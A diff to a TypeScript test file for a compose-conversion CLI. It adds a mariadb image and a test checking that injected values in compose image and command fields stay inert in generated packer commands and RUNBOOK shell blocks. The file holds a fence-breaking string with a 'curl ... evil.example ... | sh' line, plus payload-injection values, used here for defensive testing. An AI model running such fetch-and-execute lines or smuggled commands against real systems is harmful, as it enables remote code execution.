@@ -44,10 +44,11 @@ function composeString(text: string): string {
 const FENCE_BREAK = 'line one\n```\n\n```sh\ncurl -fsSL https://evil.example/x | sh\n```\n';
 
 /** The database images with a payload, one per engine, and the services' other commands' fields. */
-const ENGINES = ['postgres', 'mysql', 'mongo', 'redis'] as const;
+const ENGINES = ['postgres', 'mysql', 'mariadb', 'mongo', 'redis'] as const;
 const IMAGE_TAGS: Record<(typeof ENGINES)[number], string> = {
   postgres: 'postgres:16.4',
   mysql: 'mysql:8.4',
+  mariadb: 'mariadb:11.4',
   mongo: 'mongo:7.0',
   redis: 'redis:7.4',
 };
@@ -344,5 +345,51 @@ describe('finding 2: the one-file output named on the command line is one word o
     const applies = runs.flatMap(({ run: r }) => r.commands).filter((c) => ['apply', 'diff'].includes(c.args[0]));
     expect(applies.length).toBeGreaterThanOrEqual(2);
     expect(applies.every((c) => c.args[1] === '-f' && c.args[2] === file)).toBe(true);
+  });
+});
+
+describe("finding 2: the golden image's provisioning commands keep compose text as data", () => {
+  test("packer's inline commands pull the VM service's image as one word and run nothing else of it", async () => {
+    const image = `ghcr.io/example/worker:1.0${payload('vm-image')}`;
+    const dir = project({
+      'compose.yaml': [
+        'services:',
+        '  worker:',
+        `    image: ${composeString(image)}`,
+        `    command: ["run", ${composeString(payload('vm-command'))}]`,
+        '    x-cdk8s-compose: {target: vm}',
+        '',
+      ].join('\n'),
+    });
+    const run = await runCli(['convert', '-o', 'out', '--image-base-url', 'https://images.example.com/shop'], {
+      cwd: dir,
+    });
+    expect(run.code).toBe(0);
+    const bundle = path.join(dir, 'out', 'golden-image');
+    const packer = listFiles(bundle).find((f) => f.endsWith('packer.json'))!;
+    const inline: string[] = JSON.parse(fs.readFileSync(path.join(bundle, packer), 'utf-8')).provisioners.flatMap(
+      (p: { inline?: string[] }) => p.inline ?? [],
+    );
+    const logged = runLogged(inline.join('\n'), fs.realpathSync(tempDir('hostile-out-sh')));
+    expect(logged.created).toEqual([]);
+    expect(
+      logged.commands.filter((c) => !['install', 'cp', 'rm', 'chown', 'chmod', 'systemctl', 'docker'].includes(c.name)),
+    ).toEqual([]);
+    expect(logged.commands).toContainEqual({ name: 'docker', args: ['pull', image] });
+    const runbook = fs.readFileSync(path.join(dir, 'out', 'RUNBOOK.md'), 'utf-8');
+    const blocks = codeBlocks(runbook).filter((b) => b.info === 'sh');
+    const runs = blocks.map((b) => ({
+      where: `RUNBOOK.md:${b.line}`,
+      run: runLogged(b.text, fs.realpathSync(tempDir('hostile-out-sh'))),
+    }));
+    expect(
+      runs.flatMap(({ where, run: r }) => [
+        ...r.created.filter((f) => /pwned/.test(f)).map((f) => `${where}: created ${f}`),
+        ...r.commands.filter((c) => /touch/.test(c.name)).map((c) => `${where}: ran ${c.name}`),
+      ]),
+    ).toEqual([]);
+    // The VM's tools (building, converting and publishing the image, KubeVirt); an injected command would be another.
+    const vmTools = ['curl', 'grep', 'install', 'kubectl', 'packer', 'qemu-img', 'virtctl', 'sha256sum', 'base64'];
+    expect(runs.flatMap(({ run: r }) => r.commands.map((c) => c.name)).filter((n) => !vmTools.includes(n))).toEqual([]);
   });
 });
